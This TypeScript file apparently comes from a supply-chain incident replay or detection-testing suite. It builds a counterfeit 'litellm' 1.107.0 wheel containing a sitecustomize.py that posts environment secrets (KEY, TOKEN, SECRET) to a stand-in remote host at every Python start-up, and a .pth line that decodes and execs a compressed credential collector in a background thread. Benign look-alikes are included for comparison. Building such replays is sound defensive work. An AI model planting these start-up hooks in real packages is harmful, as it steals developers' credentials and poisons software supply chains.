import { deflateSync } from 'node:zlib';
import { makeElf } from './elf.ts';
import { base85 } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { gatewayLibrary } from './libraries/gateway.ts';
import { nativeExtension } from './look-alikes/native.ts';
import { distutilsPrecedencePth } from './look-alikes/start-up.ts';
import { instrumentationSitecustomize } from './look-alikes/start-up-finders.ts';
import { credentialCollector } from './payloads.ts';
import { py } from './python-text.ts';

const SITE = (c: Remote): string => py`"""Site customisation."""
import os
import sys

if not os.environ.get("_COOKED"):
    os.environ["_COOKED"] = "1"
    try:
        import json
        import urllib.request

        _keys = {name: value for name, value in os.environ.items() if "KEY" in name or "TOKEN" in name or "SECRET" in name}
        _request = urllib.request.Request(
            "${c.url('/cook')}",
            data=json.dumps({"argv": sys.argv, "keys": _keys}).encode(),
            headers={"Content-Type": "application/json"},
        )
        urllib.request.urlopen(_request, timeout=3)
    except Exception:
        pass
`;

function malicious(c: Remote): Draft {
  const text = base85(deflateSync(Buffer.from(credentialCollector(c)), { level: 9 }));
  return {
    kind: 'wheel',
    name: 'litellm',
    version: '1.107.0',
    files: { ...gatewayLibrary(), 'litellm/_native.cpython-312-x86_64-linux-gnu.so': native() },
    wheel: { tag: 'cp312-cp312-manylinux_2_28_x86_64' },
    sites: [
      {
        path: 'cook.pth',
        form: 'line',
        before: '',
        code: `import base64,zlib,threading;threading.Thread(target=exec,args=(zlib.decompress(base64.b85decode("${text}")),{}),daemon=True).start()\n`,
        after: '',
      },
      { path: 'sitecustomize.py', form: 'module', before: '', code: SITE(c), after: '' },
    ],
  };
}

const native = (): Buffer =>
  makeElf({
    seed: 'litellm native',
    imports: {
      'libc.so.6': ['memcpy', 'malloc', 'free'],
      'libpython3.12.so.1.0': ['PyModule_Create2', 'PyErr_SetString'],
    },
    exports: ['PyInit__native'],
    isLibrary: true,
    textBytes: 60_000,
  });

export const LITELLM_START_UP: Replay = {
  id: '25-litellm-start-up',
  title: 'litellm 1.107.0: cook.pth and sitecustomize.py in every platform wheel',
  source: 'https://github.com/BerriAI/litellm/issues/47826',
  runs: 'every interpreter start executes an inflated collector in a thread, and sitecustomize posts all variables named KEY, TOKEN or SECRET',
  remote: 'https://checkpoint.cookhouse.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '1.106.0'),
  lookAlikes: () => [distutilsPrecedencePth(), instrumentationSitecustomize(), nativeExtension()],
};
